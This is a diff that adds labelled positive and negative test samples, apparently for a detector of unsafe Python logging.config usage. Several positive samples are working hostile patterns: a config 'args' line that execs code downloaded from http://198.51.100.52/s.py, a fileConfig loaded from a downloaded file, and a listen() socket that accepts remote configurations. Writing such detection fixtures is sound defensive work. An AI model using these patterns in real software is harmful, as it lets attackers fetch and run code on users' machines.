@@ -293,3 +293,49 @@ class Job:
         return x
 j = Job()
 print(list(map(j.exec, [1, 2])))
+#@ pos logging.fileConfig of a text whose args line downloads and runs code
+import io, logging.config
+CONF = """
+[handler_h]
+class=StreamHandler
+args=(exec(__import__('urllib.request').request.urlopen('http://198.51.100.52/s.py').read()) or sys.stderr,)
+"""
+logging.config.fileConfig(io.StringIO(CONF))
+#@ pos logging.fileConfig of a downloaded configuration
+import io, logging.config, urllib.request
+logging.config.fileConfig(io.StringIO(urllib.request.urlopen("http://198.51.100.52/log.ini").read().decode()))
+#@ pos logging.config.listen takes configurations over a socket
+import logging.config
+t = logging.config.listen(9030)
+t.start()
+#@ neg an ordinary logging configuration text
+import io, logging.config
+CONF = """
+[loggers]
+keys=root
+[handlers]
+keys=console,file
+[formatters]
+keys=plain
+[logger_root]
+level=INFO
+handlers=console,file
+[handler_console]
+class=StreamHandler
+args=(sys.stdout,)
+formatter=plain
+[handler_file]
+class=handlers.RotatingFileHandler
+args=('%(logfile)s', 'a', 1048576, 3)
+kwargs={'encoding': 'utf-8'}
+formatter=plain
+[formatter_plain]
+format=%(asctime)s %(levelname)s %(message)s
+"""
+logging.config.fileConfig(io.StringIO(CONF), defaults={"logfile": "app.log"})
+#@ neg a logging configuration file of the program's own
+import logging.config, os
+logging.config.fileConfig(os.path.join(os.path.dirname(__file__), "logging.ini"))
+#@ neg a text with args lines in a program that never calls fileConfig
+HELP = "usage: args=(run(x))"
+print(HELP)
